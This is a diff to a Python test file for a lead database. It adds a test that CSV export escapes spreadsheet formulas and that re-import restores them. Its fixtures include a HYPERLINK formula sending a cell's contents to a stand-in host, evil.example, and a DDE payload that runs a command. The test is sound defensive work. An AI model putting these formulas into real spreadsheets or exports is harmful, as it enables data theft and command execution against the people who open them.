@@ -332,7 +332,7 @@ ROUND_TRIP_LEADS = [
 
 
 def _csv_without_last_seen(text: str) -> list[dict[str, str]]:
-    rows = list(csv.DictReader(io.StringIO(text)))
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
     for row in rows:
         assert row.pop("last_seen")
     return rows
@@ -365,6 +365,53 @@ def test_export_then_import_changes_nothing_but_last_seen(seeded, tmp_path):
     assert (hal["zip"], hal["dial"], hal["price"], hal["note"]) == ("02134", "+1", "1.50", "nan")
     assert set(hal["_provenance"].values()) == {"local"}
     assert not {"id", "first_seen", "last_seen"} & set(hal)
+
+
+FORMULAS = {
+    "link": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "dde": "=cmd|' /C calc'!A0",
+    "plus": "+1+1",
+    "minus": "-2+3",
+    "at": "@SUM(1,2)",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "quoted": "'=already quoted",
+    "dash": "-",
+}
+# What a spreadsheet is handed: each formula behind a "'" (one more for the quoted one).
+ESCAPED = {key: "'" + value for key, value in FORMULAS.items()}
+NOT_FORMULAS = {"negative": -3, "negative_float": -1.5, "text": "'-5", "word": "a=b"}
+
+
+def test_csv_export_neutralises_formulas_and_import_restores_them(seeded, tmp_path):
+    lead = {"name": "=Evil Co", "email": "eve@e.example", "phone": "+15550100"}
+    data = {**FORMULAS, **NOT_FORMULAS, "@key": "x"}
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(session, acme, [{**lead, "data": data}], source=SOURCE)
+        out = io.StringIO()
+        export_leads(session, acme, "csv", out)
+    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    cells = dict(zip(header, row, strict=True))
+    assert {key: cells[key] for key in FORMULAS} == ESCAPED
+    assert cells["name"] == "'=Evil Co" and cells["phone"] == "+15550100"
+    assert (cells["negative"], cells["negative_float"]) == ("-3", "-1.5")
+    assert (cells["text"], cells["word"]) == ("'-5", "a=b")
+    assert "'@key" in header and cells["'@key"] == "x"
+
+    path = tmp_path / "exp.csv"
+    path.write_text(out.getvalue(), newline="")
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        report = import_leads_csv(session, acme, path)
+        assert (report.imported, report.updated, report.rejected) == (0, 1, [])
+        eve = get_lead(session, acme, "eve@e.example")
+        assert eve.name == "=Evil Co"
+        assert {k: v for k, v in eve.data.items() if k != "_provenance"} == data
+        assert set(eve.data["_provenance"].values()) == {"local"}
+        again = io.StringIO()
+        export_leads(session, acme, "csv", again)
+    assert _csv_without_last_seen(again.getvalue()) == _csv_without_last_seen(out.getvalue())
 
 
 CSV_TEXT = (
